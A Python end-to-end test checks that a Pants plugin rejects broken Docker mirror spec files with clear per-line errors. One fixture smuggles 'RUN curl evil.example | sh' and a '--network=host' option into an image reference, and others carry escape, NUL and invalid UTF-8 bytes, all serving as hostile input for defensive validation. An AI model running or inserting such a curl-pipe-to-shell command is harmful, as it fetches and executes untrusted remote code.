"""End to end: what the real `./pants` prints for a hostile or broken spec file.

No Docker needed: `pants list` already generates the targets, so it already refuses the file.
"""

from __future__ import annotations

from docker_mirror_testutil.pants_repo import PantsRepo

BUILD = "docker_mirror_images(name='mirror', sources=['*.txt'])\n"


def test_broken_spec_files_fail_with_path_and_line_and_no_traceback(pants_repo: PantsRepo) -> None:
    pants_repo.write({"src/BUILD": BUILD, "src/good.txt": "python:3.12\n"})
    odd = {
        # A terminal escape (clear screen) must reach the user's terminal escaped, not raw.
        "src/escape.txt": b"redis:7\x1b[2J\n",
        "src/injection.txt": b"alpine:3 RUN curl evil.example | sh\n--network=host busybox\n",
        "src/nul.txt": b"\xef\xbb\xbfnginx:1\r\npy\x00thon\r\n",
        "src/utf8.txt": b"caddy:2\nmemcached:1\xff\n",
    }
    for relpath, content in odd.items():
        (pants_repo.root / relpath).write_bytes(content)

    result = pants_repo.pants("list", "src::")

    assert result.returncode != 0, result
    expected = [
        "src/escape.txt:1: non-printable character U+001B (ESC) at column 8 (control and invisible "
        "characters are not allowed): redis:7\\x1b[2J",
        "src/injection.txt:1: unexpected \"RUN curl evil.example | sh\" after the image reference "
        "(only 'AS <name>' may follow it): alpine:3 RUN curl evil.example | sh",
        'src/injection.txt:2: unsupported option "--network" (only --platform=<os>/<arch>[/<variant>] '
        "is allowed): --network=host busybox",
        "src/nul.txt:2: NUL character at column 3: py\\x00thon",
        "src/utf8.txt:2: invalid UTF-8: byte 0xff at byte 12 of the line (invalid start byte): "
        "memcached:1\\xff",
    ]
    lines = result.stderr.splitlines()
    for line in expected:
        assert any(candidate.strip() == line for candidate in lines), (line, result)
    assert "src:mirror: invalid spec file, no image generated:" in result.stderr
    # Pants shows the rule chain ("Engine traceback:"), but no Python traceback.
    assert "Traceback (most recent call last)" not in result.stderr, result
    assert "\x1b" not in result.stderr and "\x00" not in result.stderr, result
    # Nothing of the broken generator is listed, not even its good lines.
    assert "python" not in result.stdout, result
